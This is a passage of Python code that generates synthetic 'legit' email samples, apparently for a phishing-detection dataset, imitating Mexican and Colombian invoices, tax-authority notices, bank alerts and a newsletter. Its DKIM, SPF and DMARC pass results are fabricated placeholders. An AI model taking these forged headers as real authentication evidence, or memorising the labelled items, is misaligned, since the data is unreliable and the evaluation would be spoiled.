           f'<cfdi:Receptor Rfc="{receptor[0]}" Nombre="{receptor[1]}" DomicilioFiscalReceptor="66600" RegimenFiscalReceptor="601" UsoCFDI="{receptor[2]}"/>'
           f'<cfdi:Conceptos>{cs}</cfdi:Conceptos><cfdi:Impuestos TotalImpuestosTrasladados="{iva:.2f}"><cfdi:Traslados>'
           f'<cfdi:Traslado Base="{sub:.2f}" Impuesto="002" TipoFactor="Tasa" TasaOCuota="0.160000" Importe="{iva:.2f}"/></cfdi:Traslados></cfdi:Impuestos>'
           f'<cfdi:Complemento><tfd:TimbreFiscalDigital xsi:schemaLocation="http://www.sat.gob.mx/TimbreFiscalDigital '
           f'http://www.sat.gob.mx/sitio_internet/cfd/TimbreFiscalDigital/TimbreFiscalDigitalv11.xsd" Version="1.1" UUID="{uuid}" '
           f'FechaTimbrado="{fecha[:-2]}{int(fecha[-2:]) + 3:02d}" RfcProvCertif="SPR190613I52" SelloCFD="{b64s(uuid + "sello", 344)}" '
           f'NoCertificadoSAT="00001000000705250068" SelloSAT="{b64s(uuid + "sat", 344)}"/></cfdi:Complemento></cfdi:Comprobante>\n')
    return xml.encode(), total


def mx_legit_cfdi_lubricantes() -> None:
    slug = "mx-cfdi-xml-pdf-proveedor-lubricantes"
    t = T(2025, 3, 5, 12, 18, 34, -6)
    rcpt = "cuentasporpagar@autopartesgarza.com.mx"
    dom = "lubriregios.com.mx"
    ses = f"0100{hx(slug, 12)}-{hx(slug + '1', 8)}-{hx(slug + '2', 4)}-{hx(slug + '3', 4)}-{hx(slug + '4', 4)}-{hx(slug + '5', 12)}-000000"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="54.240.11.108", host="a11-108.smtp-out.amazonses.com", mailfrom=f"{ses}@facturas.{dom}",
                 spf="pass", dkims=[("pass", f"@{dom}", "cfdi"), ("pass", "@amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw")],
                 dmarc=f"pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from={dom}")
    uuid = guid(slug + "uuid").upper()
    xml, total = cfdi_xml("A", "77812", "2025-03-05T12:11:02",
                          ("LIR0811248T3", "LUBRICANTES INDUSTRIALES REGIOS", "601"),
                          ("AGN0512093K4", "AUTOPARTES GARZA DEL NORTE", "G01"),
                          [("15121501", "ACEITE MULTIGRADO 15W40 CI-4 CUBETA 19 L", 40, 1385.0, "H87"),
                           ("15121520", "ANTICONGELANTE REFRIGERANTE 50/50 GALON 3.78 L", 120, 142.5, "H87"),
                           ("15121902", "GRASA MULTIUSO EP-2 CUBETA 16 KG", 12, 1190.0, "H87")], uuid)
    orig = [dkim_sig(dom, "cfdi", slug, t, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version", c="relaxed/simple"),
            dkim_sig("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw", slug + "s", t,
                     "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:Feedback-ID", c="relaxed/simple"),
            f"From: {addr('Facturación Lubricantes Industriales Regios', f'facturacion@{dom}', 'UTF-8', 'Q')}",
            f"To: {rcpt}",
            "Cc: compras@autopartesgarza.com.mx",
            f"Subject: {ew(f'Envío de CFDI: A-77812 UUID {uuid}')}",
            f"Message-ID: <{ses}@email.amazonses.com>",
            f"Date: {rfc(utc(t))}",
            "MIME-Version: 1.0",
            f"Feedback-ID: ::1.us-east-1.{b64s(slug + 'fb', 43)}=:AmazonSES",
            "X-SES-Outgoing: 2025.03.05-54.240.11.108"]
    plain = f"""Estimado cliente AUTOPARTES GARZA DEL NORTE:

Le hacemos llegar el Comprobante Fiscal Digital por Internet (CFDI 4.0) de su compra:

Serie y folio: A-77812
Folio fiscal (UUID): {uuid}
Fecha de emisión: 05/03/2025
Total: ${total:,.2f} MXN
Método de pago: PPD (pago en parcialidades o diferido) - crédito 30 días

Se adjuntan el archivo XML y su representación impresa en PDF. Puede verificar la validez del comprobante en el portal del SAT:
https://verificacfdi.facturaelectronica.sat.gob.mx/

Para pagos, utilice la cuenta que aparece en su contrato de crédito. Nunca le notificaremos cambios de cuenta bancaria por correo electrónico.

Atentamente,
Facturación
Lubricantes Industriales Regios, S.A. de C.V.
Tel. 81 8331 4410
"""
    pdf = pdf_doc(["LUBRICANTES INDUSTRIALES REGIOS SA DE CV   RFC LIR0811248T3", "Regimen: 601 General de Ley Personas Morales", "",
                   "FACTURA A-77812   CFDI 4.0   Tipo: Ingreso", f"Folio fiscal: {uuid}", "Fecha: 2025-03-05T12:11:02",
                   "Receptor: AUTOPARTES GARZA DEL NORTE  RFC AGN0512093K4  Uso CFDI: G01", "",
                   "40  ACEITE MULTIGRADO 15W40 CI-4 CUBETA 19 L        1,385.00   55,400.00",
                   "120 ANTICONGELANTE 50/50 GALON 3.78 L                 142.50   17,100.00",
                   "12  GRASA MULTIUSO EP-2 CUBETA 16 KG                1,190.00   14,280.00", "",
                   f"Subtotal 86,780.00   IVA 16% 13,884.80   Total {total:,.2f}",
                   "Este documento es una representacion impresa de un CFDI."],
                  "A-77812", "Stimulsoft Reports 2023.1.1", "20250305121104-06'00'")
    body = Multi("mixed", boundary(slug, "ses"), [
        text(plain, "plain", "quoted-printable", "UTF-8"),
        Leaf("text/xml", xml, "base64", f'; name="{uuid}.xml"', f'attachment; filename="{uuid}.xml"'),
        attachment("application/pdf", f"{uuid}.pdf", pdf),
    ])
    add("bulk", "legit", slug,
        "Genuine CFDI 4.0 invoice from a known lubricants supplier's billing system (aligned DKIM/DMARC via SES) with the stamped XML and PDF attached and only the SAT verification link.",
        hdr(top, orig), body)


def mx_legit_sat_buzon_aviso() -> None:
    slug = "mx-sat-buzon-tributario-aviso-real"
    t = T(2024, 8, 20, 7, 2, 18, -6)
    rcpt = "mcantu@autopartesgarza.com.mx"
    dom = "sat.gob.mx"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="200.57.3.88", host="mta2.sat.gob.mx", mailfrom=f"avisos.buzontributario@{dom}", spf="pass",
                 dkims=[("pass", f"@{dom}", "satmx")], dmarc=f"pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from={dom}",
                 tls="version=TLS1_2 cipher=ECDHE-RSA-AES256-GCM-SHA384 bits=256/256")
    orig = [dkim_sig(dom, "satmx", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            f"Date: {rfc(t)}",
            f"From: {addr('Servicio de Administración Tributaria', f'avisos.buzontributario@{dom}', 'UTF-8', 'Q')}",
            f"To: {rcpt}",
            f"Message-ID: <{num(slug, 10**8, 10**9 - 1)}.{num(slug + 'a', 10**5, 10**6 - 1)}.{epoch(t)}{num(slug + 'b', 100, 999)}@{dom}>",
            f"Subject: {ew('Aviso: tienes un mensaje de interés en tu Buzón Tributario')}",
            "MIME-Version: 1.0"]
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="font-family:Montserrat,Arial,sans-serif;font-size:14px;color:#333">
<table width="640" cellpadding="0" cellspacing="0" style="border:1px solid #d6d6d6">
<tr><td style="background:#611232;padding:14px 20px;color:#fff;font-size:16px">Servicio de Administración Tributaria</td></tr>
<tr><td style="padding:22px 24px;line-height:21px">
<p>Estimado contribuyente:</p>
<p><b>AUTOPARTES GARZA DEL NORTE</b><br>RFC: AGN0512093K4</p>
<p>Te informamos que tienes un <b>mensaje de interés</b> en tu Buzón Tributario relacionado con el cumplimiento de tus obligaciones fiscales.</p>
<p>Para consultarlo, ingresa al portal del SAT, sección <b>Otros trámites y servicios &gt; Buzón Tributario</b>, con tu RFC y contraseña o e.firma.</p>
<p>Recuerda que el SAT no envía archivos adjuntos ni ligas de descarga, y nunca te solicitará tu contraseña, e.firma o datos bancarios por correo electrónico.</p>
<p style="font-size:12px;color:#777">Este mensaje es informativo y fue enviado a tu medio de contacto registrado en el Buzón Tributario. Por favor no respondas a este correo.<br>
Atención telefónica: MarcaSAT 55 627 22 728.</p>
</td></tr></table></body></html>
"""
    plain = ("Estimado contribuyente:\n\nAUTOPARTES GARZA DEL NORTE, RFC AGN0512093K4\n\nTienes un mensaje de interés en tu Buzón Tributario. "
             "Consúltalo en el portal del SAT con tu RFC y contraseña o e.firma.\n\nEl SAT no envía archivos adjuntos ni ligas de descarga.\n")
    body = alt(slug, plain, html, "other")
    add("bulk", "legit", slug,
        "Real SAT Buzón Tributario aviso from sat.gob.mx (SPF/DKIM/DMARC pass): no attachment, no link, instructs the user to log in through the SAT portal.",
        hdr(top, orig), body)


def mx_legit_bbva_spei() -> None:
    slug = "mx-bbva-netcash-spei-enviado"
    t = T(2025, 5, 30, 13, 47, 2, -6)
    rcpt = "mcantu@autopartesgarza.com.mx"
    dom = "bbva.mx"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="148.244.84.21", host="smtpout2.bbva.mx", mailfrom=f"notificaciones.netcash@{dom}",
                 spf="pass", dkims=[("pass", f"@{dom}", "bbvamx1")], dmarc=f"pass (p=REJECT sp=REJECT dis=NONE) header.from={dom}",
                 tls="version=TLS1_2 cipher=ECDHE-RSA-AES128-GCM-SHA256 bits=128/128")
    orig = [dkim_sig(dom, "bbvamx1", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            f"Date: {rfc(t)}",
            f"From: BBVA net cash <notificaciones.netcash@{dom}>",
            f"To: {rcpt}",
            f"Message-ID: <{hx(slug, 20)}.NETCASH.{num(slug, 10000, 99999)}@{dom}>",
            f"Subject: {ew('Notificación de operación: Transferencia SPEI enviada')}",
            "MIME-Version: 1.0"]
    html = """<html><body style="margin:0;background:#f4f4f4">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,Helvetica,sans-serif;color:#121212">
<tr><td style="background:#072146;padding:20px 28px;color:#fff;font-size:22px;font-weight:bold">BBVA</td></tr>
<tr><td style="padding:26px 28px;font-size:14px;line-height:21px">
<p>Estimado cliente <b>AUTOPARTES GARZA DEL NORTE SA DE CV</b>:</p>
<p>Te informamos que se realizó la siguiente operación en BBVA net cash:</p>
<table width="100%" style="font-size:13px;border:1px solid #e0e0e0">
<tr><td style="padding:7px;background:#f7f8f8">Operación</td><td style="padding:7px">Transferencia SPEI a otros bancos</td></tr>
<tr><td style="padding:7px;background:#f7f8f8">Cuenta de cargo</td><td style="padding:7px">*4418</td></tr>
<tr><td style="padding:7px;background:#f7f8f8">Beneficiario</td><td style="padding:7px">LUBRICANTES INDUSTRIALES REGIOS</td></tr>
<tr><td style="padding:7px;background:#f7f8f8">Banco destino</td><td style="padding:7px">BANORTE</td></tr>
<tr><td style="padding:7px;background:#f7f8f8">Importe</td><td style="padding:7px"><b>$100,664.80 MXN</b></td></tr>
<tr><td style="padding:7px;background:#f7f8f8">Concepto</td><td style="padding:7px">PAGO FACT A-77812</td></tr>
<tr><td style="padding:7px;background:#f7f8f8">Clave de rastreo</td><td style="padding:7px">BNET01002505300048811273</td></tr>
<tr><td style="padding:7px;background:#f7f8f8">Fecha y hora</td><td style="padding:7px">30/05/2025 13:46:51</td></tr></table>
<p>Puedes consultar el estatus del pago en <a href="https://www.banxico.org.mx/cep/" style="color:#1973b8">www.banxico.org.mx/cep</a> con la clave de rastreo.</p>
<p style="font-size:12px;color:#666">Si no reconoces esta operación llama a Línea BBVA Empresas 55 5226 2639. BBVA nunca te pedirá por correo tus claves, token o datos de acceso.</p>
</td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#999;background:#f7f8f8">BBVA México, S.A., Institución de Banca Múltiple, Grupo Financiero BBVA México. <a href="https://www.bbva.mx/personas/aviso-de-privacidad.html" style="color:#999">Aviso de privacidad</a></td></tr>
</table></body></html>
"""
    body = text(html, "html", "quoted-printable", "UTF-8")
    add("bulk", "legit", slug,
        "Real BBVA México net cash SPEI notification from bbva.mx (p=REJECT, all pass) for a paid supplier invoice, linking only to Banxico CEP and bbva.mx.",
        hdr(top, orig), body)


def mx_legit_mercadolibre_compra() -> None:
    slug = "mx-mercadolibre-compra-confirmada"
    t = T(2024, 11, 16, 11, 3, 47, -6)
    rcpt = "dsalinas@autopartesgarza.com.mx"
    dom = "mercadolibre.com.mx"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="54.240.8.211", host="a8-211.smtp-out.amazonses.com", mailfrom=f"bounce-{hx(slug, 10)}@mail.{dom}",
                 spf="pass", dkims=[("pass", f"@{dom}", "mlsel1"), ("pass", "@amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
                 dmarc=f"pass (p=REJECT sp=REJECT dis=NONE) header.from={dom}")
    ses = f"0100{hx(slug, 12)}-{hx(slug + '1', 8)}-{hx(slug + '2', 4)}-{hx(slug + '3', 4)}-{hx(slug + '4', 4)}-{hx(slug + '5', 12)}-000000"
    orig = [dkim_sig(dom, "mlsel1", slug, t, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:List-Unsubscribe", c="relaxed/simple"),
            dkim_sig("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", slug + "s", t,
                     "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:List-Unsubscribe:Feedback-ID", c="relaxed/simple"),
            f"From: Mercado Libre <info@{dom}>",
            f"To: {rcpt}",
            f"Subject: {ew('¡Listo! Tu compra de Impresora Multifuncional Epson EcoTank L5290 está confirmada')}",
            f"Message-ID: <{ses}@email.amazonses.com>",
            f"Date: {rfc(utc(t))}",
            "MIME-Version: 1.0",
            f"List-Unsubscribe: <https://myaccount.{dom}/communications/unsubscribe?t={b64url(slug + 'un', 40)}>",
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
            f"Feedback-ID: ::1.us-east-1.{b64s(slug + 'fb', 43)}=:AmazonSES",
            "X-SES-Outgoing: 2024.11.16-54.240.8.211"]
    trk = lambda k, dest: f"https://click.{dom}/r/?u={dest}&amp;c={hx(slug + k, 24)}"  # noqa: E731
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#ededed">
<table width="100%" bgcolor="#ededed"><tr><td align="center" style="padding:16px 0">
<table width="600" bgcolor="#ffffff" style="font-family:'Proxima Nova',-apple-system,Helvetica,Arial,sans-serif;color:#333">
<tr><td style="background:#ffe600;padding:16px 24px"><img src="https://http2.mlstatic.com/frontend-assets/ml-web-navigation/ui-navigation/6.6.15/mercadolibre/logo__large_plus.png" height="34" alt="Mercado Libre"></td></tr>
<tr><td style="padding:28px 32px;font-size:16px;line-height:24px">
<p style="font-size:22px;font-weight:600">¡Hola, Daniela!</p>
<p>Tu compra está confirmada. Te avisaremos cuando el vendedor la despache.</p>
<table width="100%" style="border:1px solid #eee;border-radius:6px;font-size:14px"><tr><td style="padding:14px">Impresora Multifuncional Epson EcoTank L5290<br>1 unidad · <b>$5,349</b><br><span style="color:#00a650">Llega gratis entre el martes y el miércoles</span></td></tr></table>
<p style="font-size:14px">Pagaste con Mastercard terminación 6620 en 3 meses sin intereses. Compra #2000009412207381.</p>
<p style="text-align:center"><a href="{trk('det', 'https%3A%2F%2Fmyaccount.mercadolibre.com.mx%2Fmy_purchases%2F2000009412207381')}" style="display:inline-block;background:#3483fa;color:#fff;padding:12px 32px;border-radius:6px;text-decoration:none">Ver compra</a></p>
<p style="font-size:13px;color:#999">Recuerda que en Mercado Libre nunca te pediremos datos de tu tarjeta ni contraseñas por correo. <a href="{trk('ayuda', 'https%3A%2F%2Fwww.mercadolibre.com.mx%2Fayuda')}" style="color:#3483fa">Ayuda</a></p>
</td></tr>
<tr><td style="padding:14px 32px;font-size:11px;color:#999">Mercado Libre, S. de R.L. de C.V. · <a href="https://myaccount.{dom}/communications/unsubscribe?t={b64url(slug + 'un', 40)}" style="color:#999">Configurar correos</a></td></tr>
</table></td></tr></table>
<img src="https://click.{dom}/o/?c={hx(slug + 'open', 24)}" width="1" height="1" alt=""></body></html>
"""
    plain = "¡Hola, Daniela! Tu compra #2000009412207381 (Impresora Multifuncional Epson EcoTank L5290, $5,349) está confirmada.\nVer compra: https://myaccount.mercadolibre.com.mx/my_purchases/2000009412207381\n"
    body = alt(slug, plain, html, "ses")
    add("bulk", "legit", slug,
        "Genuine Mercado Libre México purchase confirmation from mercadolibre.com.mx via SES (aligned DKIM, p=REJECT pass) with tracked links back to mercadolibre.com.mx.",
        hdr(top, orig), body)


def mx_legit_internal_inventario() -> None:
    slug = "mx-interno-inventario-balatas-apodaca"
    t = T(2023, 9, 12, 17, 8, 40, -6)
    rcpt = "rgarza@autopartesgarza.com.mx"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="209.85.220.41", host="mail-sor-f41.google.com", mailfrom="lvillarreal@autopartesgarza.com.mx",
                 spf="pass", dkims=[("pass", "@autopartesgarza.com.mx", "google")],
                 dmarc="pass (p=NONE sp=NONE dis=NONE) header.from=autopartesgarza.com.mx", smtps=True, google_internal=True)
    orig = [dkim_sig(AG, "google", slug, t, "cc:to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to",
                     style="google", x_expire=True, extra=AG),
            f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={epoch(t)}; x=1{epoch(t) % 1000000000 + 604800:09d};\n"
            f"        h=cc:to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to;\n"
            f"        bh={b64s(slug + 'bh', 43)}=;\n        b={fold_b64(b64s(slug + 'xg', 342) + '==', 58, 70, '         ')}",
            f"X-Gm-Message-State: AOJu0Y{b64s(slug + 'st', 58)}",
            f"X-Google-Smtp-Source: AGHT+I{b64s(slug + 'gs', 86)}",
            "MIME-Version: 1.0",
            "From: Luis Alberto Villarreal <lvillarreal@autopartesgarza.com.mx>",
            f"Date: {rfc(t)}",
            f"Message-ID: {gmail_mid(slug)}",
            "Subject: Inventario balatas y discos - Sucursal Apodaca",
            f"To: Rogelio Garza <{rcpt}>",
            f"Cc: {addr('Mariana Cantú', 'mcantu@autopartesgarza.com.mx', 'UTF-8', 'Q')}"]
    plain = """Ing. Rogelio, buenas tardes.

Le comparto el conteo físico de balatas y discos de la sucursal Apodaca que hicimos el sábado. Las diferencias contra sistema están marcadas en rojo; la más fuerte es en balata delantera cerámica para Nissan NP300 (faltan 14 juegos), ya revisamos y son salidas de mostrador que no se facturaron el día 2, Mariana ya tiene los tickets.

Con esto propongo pedir a Frenos y Balatas del Noreste el surtido de la próxima semana, la cotización la mando mañana.

Saludos,

--
Luis Alberto Villarreal
Compras | Autopartes Garza del Norte
Tel. 81 8376 2250 ext. 108
"""
    html = '<div dir="ltr">' + plain.replace("\n", "<br>") + "</div>\n"
    rows = [["SKU", "Descripción", "Marca", "Existencia sistema", "Conteo físico", "Diferencia", "Costo unitario"],
            ["BL-NP300-DC", "Balata delantera cerámica Nissan NP300 2016-2023", "Frenosa", 62, 48, -14, 412.5],
            ["BL-AVEO-D", "Balata delantera Chevrolet Aveo 2008-2017", "Wagner", 35, 35, 0, 298.0],
            ["DS-HILUX-D", "Disco de freno delantero Toyota Hilux 2016+", "Brembo", 18, 17, -1, 1184.0],
            ["BL-VERSA-T", "Balata trasera Nissan Versa 2012-2019", "Frenosa", 40, 41, 1, 265.0],
            ["DS-TSURU-D", "Disco de freno delantero Nissan Tsuru", "Fritec", 22, 22, 0, 389.0]]
    sheet = xlsx("Conteo Apodaca", rows, "Luis Alberto Villarreal", "2023-09-12T22:50:00Z")
    body = Multi("mixed", gboundary(slug + "mix"), [
        Multi("alternative", gboundary(slug + "alt"), [text(plain, "plain", "quoted-printable", "UTF-8"),
                                                     text(html, "html", "quoted-printable", "UTF-8")]),
        Leaf(XLSX_CT, sheet, "base64", '; name="Inventario_Balatas_Discos_Apodaca_sep23.xlsx"',
             'attachment; filename="Inventario_Balatas_Discos_Apodaca_sep23.xlsx"',
             [f"Content-ID: <f_{alnum(slug + 'cid', 9).lower()}0>", f"X-Attachment-Id: f_{alnum(slug + 'cid', 9).lower()}0"]),
    ])
    add("clean", "legit", slug,
        "Internal Google Workspace mail from purchasing to the director with the branch's brake-parts inventory count spreadsheet.",
        hdr(top, orig), body)


def co_legit_dian_notificacion() -> None:
    slug = "co-dian-notificacion-electronica-real"
    t = T(2024, 5, 22, 16, 40, 3, -5)
    rcpt = "contabilidad@rinconvelez.com.co"
    dom = "dian.gov.co"
    score, tests = sa("bayes00", "spf_pass", "spf_helo_pass", "dkim_signed", "dkim_valid", "dkim_au", "dkim_ef", "dmarc_pass",
                      "html", "dnswl_none", "scc")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="190.145.8.47", host="smtp2.dian.gov.co", mailfrom=f"notificacionelectronica@{dom}",
                          spf="pass", dkim="pass", dkim_d=dom, dmarc="pass", from_dom=dom, score=score, tests=tests,
                          tls="esmtps  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384")
    orig = [dkim_sig(dom, "dian2023", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            f"Message-ID: <{num(slug, 10**8, 10**9 - 1)}.{num(slug + 'a', 10**4, 10**5 - 1)}.{epoch(t)}{num(slug + 'b', 100, 999)}.JavaMail.wasadmin@muisca-prd-app04>",
            f"Date: {rfc(t)}",
            f"From: {addr('Notificación Electrónica DIAN', f'notificacionelectronica@{dom}', 'UTF-8', 'Q')}",
            f"To: {rcpt}",
            f"Subject: {ew('DIAN - Notificación electrónica de acto administrativo - Radicado 2024DP011845')}",
            "MIME-Version: 1.0"]
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="font-family:Arial,sans-serif;font-size:13px;color:#333">
<table width="650" cellpadding="0" cellspacing="0" style="border:1px solid #ccc">
<tr><td style="background:#0b4f8a;color:#fff;padding:12px 18px;font-size:15px"><b>DIAN</b> - Dirección de Impuestos y Aduanas Nacionales</td></tr>
<tr><td style="padding:18px;line-height:20px">
<p>Señor(a):<br><b>INVERSIONES GUAYACAN S.A.S.</b><br>NIT: 900.774.218</p>
<p>La Dirección de Impuestos y Aduanas Nacionales le informa que se ha realizado la <b>notificación electrónica</b> del siguiente acto administrativo, en los términos del artículo 566-1 del Estatuto Tributario:</p>
<table style="font-size:12px;border-collapse:collapse">
<tr><td style="border:1px solid #ccc;padding:5px">Tipo de acto</td><td style="border:1px solid #ccc;padding:5px">Auto de archivo - Solicitud de devolución saldo a favor IVA</td></tr>
<tr><td style="border:1px solid #ccc;padding:5px">Número de radicado</td><td style="border:1px solid #ccc;padding:5px">2024DP011845</td></tr>
<tr><td style="border:1px solid #ccc;padding:5px">Dependencia</td><td style="border:1px solid #ccc;padding:5px">División de Gestión de Recaudo y Cobranzas - Bogotá</td></tr>
<tr><td style="border:1px solid #ccc;padding:5px">Fecha de notificación</td><td style="border:1px solid #ccc;padding:5px">22/05/2024</td></tr></table>
<p>El documento puede ser consultado ingresando a los servicios en línea de la DIAN con su usuario y contraseña, en la opción <b>Notificaciones electrónicas</b>:<br>
<a href="https://muisca.dian.gov.co/WebArquitectura/DefLogin.faces">https://muisca.dian.gov.co/WebArquitectura/DefLogin.faces</a></p>
<p>Este correo se remite a la dirección electrónica registrada en el RUT. La DIAN no envía archivos comprimidos ni solicita claves por este medio.</p>
<p style="font-size:11px;color:#777">Por favor no responda este mensaje. Para inquietudes comuníquese con el Centro de Contacto (601) 307 8064.</p>
</td></tr></table></body></html>
"""
    body = text(html, "html", "quoted-printable", "UTF-8")
    add("bulk", "legit", slug,
        "Genuine DIAN electronic-notification email (dian.gov.co, SPF/DKIM/DMARC pass) sent to the firm as the client's registered RUT address, pointing only to the MUISCA login.",
        hdr(top, orig, tail), body)


def co_legit_bancolombia_alerta() -> None:
    slug = "co-bancolombia-alerta-transferencia"
    t = T(2025, 2, 14, 10, 22, 51, -5)
    rcpt = "tesoreria@rinconvelez.com.co"
    dom = "an.notificacionesbancolombia.com"
    score, tests = sa("bayes00", "spf_pass", "spf_helo_pass", "dkim_signed", "dkim_valid", "dkim_au", "dkim_ef", "dmarc_pass",
                      "html_only", "dnswl_none", "scc")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="20.96.152.34", host="mta-b4.notificacionesbancolombia.com",
                          mailfrom=f"alertasynotificaciones@{dom}", spf="pass", dkim="pass", dkim_d=dom, dmarc="pass",
                          from_dom=dom, score=score, tests=tests)
    orig = [dkim_sig(dom, "an1", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
            f"From: Alertas y Notificaciones <alertasynotificaciones@{dom}>",
            f"To: {rcpt}",
            "Subject: Alertas y Notificaciones",
            f"Date: {rfc(t)}",
            f"Message-ID: <{hx(slug, 32)}@{dom}>",
            "MIME-Version: 1.0"]
    html = """<html><body style="margin:0;font-family:'Open Sans',Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="border:1px solid #e5e5e5">
<tr><td style="background:#2c2a29;padding:16px 24px;color:#fdda24;font-size:20px;font-weight:bold">Bancolombia</td></tr>
<tr><td style="padding:24px;font-size:14px;color:#2c2a29;line-height:21px">
<p>Bancolombia le informa Transferencia por $7,970,000 desde cta *7731 a cta *0274 (Davivienda). 14/02/2025 10:22.</p>
<p>Si tiene inquietudes comuníquese con la Sucursal Telefónica Bancolombia: Bogotá (601) 343 0000, resto del país 01 8000 912 345.</p>
<p style="font-size:12px;color:#666">Bancolombia nunca le solicitará sus claves, datos de tarjetas o códigos de seguridad por correo electrónico, mensajes de texto o llamadas.</p>
<p style="font-size:12px"><a href="https://www.bancolombia.com/personas/seguridad" style="color:#2c2a29">Conozca nuestras recomendaciones de seguridad</a></p>
</td></tr>
<tr><td style="padding:12px 24px;font-size:10px;color:#999;background:#f7f7f7">Este correo fue enviado automáticamente, no lo responda. Vigilado Superintendencia Financiera de Colombia.</td></tr>
</table></body></html>
"""
    body = text(html, "html", "quoted-printable", "UTF-8")
    add("bulk", "legit", slug,
        "Real Bancolombia 'Alertas y Notificaciones' transfer alert (the rent payment) from notificacionesbancolombia.com with full auth, phone numbers and a bancolombia.com link.",
        hdr(top, orig, tail), body)


def co_legit_newsletter_mailchimp() -> None:
    slug = "co-boletin-contable-mailchimp"
    t = T(2024, 1, 16, 6, 30, 12, -5)
    rcpt = "contabilidad@rinconvelez.com.co"
    dom = "contadoresaldia.com.co"
    score, tests = sa("bayes00", "spf_pass", "spf_helo_pass", "dkim_signed", "dkim_valid", "dkim_au", "dmarc_pass", "html",
                      "dnswl_none", "msps", "remote_img", "kam_tracking", "scc")
    u, lid = hx(slug + "u", 25), hx(slug + "id", 10)
    mf = f"bounce-mc.us21_{num(slug, 10**7, 10**8 - 1)}.{num(slug + 'c', 10**6, 10**7 - 1)}-{hx(slug + 'b', 10)}@mail241.atl221.mcsv.net"
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="198.2.141.241", host="mail241.atl221.mcsv.net", mailfrom=mf, spf="pass",
                          dkim="pass", dkim_d=dom, dmarc="pass", from_dom=dom, score=score, tests=tests)
    orig = [dkim_sig(dom, "k2", slug, t, "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC"),
            dkim_sig("mcsv.net", "k3", slug + "mc", t, "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC"),
            f"Subject: {ew('Boletín Contadores al Día | UVT 2024, calendario tributario y cambios en exógena')}",
            f"From: {addr('Contadores al Día', f'boletin@{dom}', 'UTF-8', 'Q')}",
            f"Reply-To: Contadores al Dia <boletin@{dom}>",
            f"To: <{rcpt}>",
            f"Date: {rfc(utc(t))}",
            f"Message-ID: <{hx(slug, 20)}.{num(slug, 10**6, 10**7)}@mail241.atl221.mcdlv.net>",
            f"X-Mailer: Mailchimp Mailer - **CID{hx(slug + 'cid', 20)}{hx(slug + 'e', 10)}**",
            f"X-Campaign: mailchimp{u}.{hx(slug + 'camp', 10)}",
            f"X-campaignid: mailchimp{u}.{hx(slug + 'camp', 10)}",
            f"X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={hx(slug + 'camp', 10)}&e={hx(slug + 'e', 10)}",
            f"X-MC-User: {u}",
            f"Feedback-ID: {num(slug + 'f', 10**7, 10**8)}:{num(slug + 'g', 10**6, 10**7)}.{num(slug + 'h', 100000, 999999)}:us21:mc",
            f"List-ID: {u}mc list <{u}.{num(slug + 'l', 100000, 999999)}.list-id.mcsv.net>",
            "X-Accounttype: pd",
            f"List-Unsubscribe: <https://contadoresaldia.us21.list-manage.com/unsubscribe?u={u}&id={lid}&t=b&e={hx(slug + 'e', 10)}&c={hx(slug + 'camp', 10)}>,\n <mailto:unsubscribe-mc.us21_{u}.{hx(slug + 'camp', 10)}-{hx(slug + 'e', 10)}@unsubscribe.mailchimpapp.net?subject=unsubscribe>",
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
            "MIME-Version: 1.0"]
    tr = lambda k: f"https://contadoresaldia.us21.list-manage.com/track/click?u={u}&amp;id={hx(slug + k, 10)}&amp;e={hx(slug + 'e', 10)}"  # noqa: E731
    items = [("uvt", "UVT 2024 fijada en $47.065: tabla de valores y topes para personas naturales"),
             ("cal", "Calendario tributario 2024: fechas de renta de grandes contribuyentes y personas jurídicas"),
             ("exo", "Información exógena año gravable 2023: cambios de la Resolución 000162 y nuevos formatos"),
             ("fe", "Documento soporte de nómina electrónica: errores frecuentes en la transmisión de enero"),
             ("ica", "ICA Bogotá: nuevas fechas para declarar el impuesto anual y bimestral"),
             ("web", "Webinar gratuito: cierre contable y conciliación fiscal formato 2516 (jueves 25 de enero, 6:00 p.m.)")]
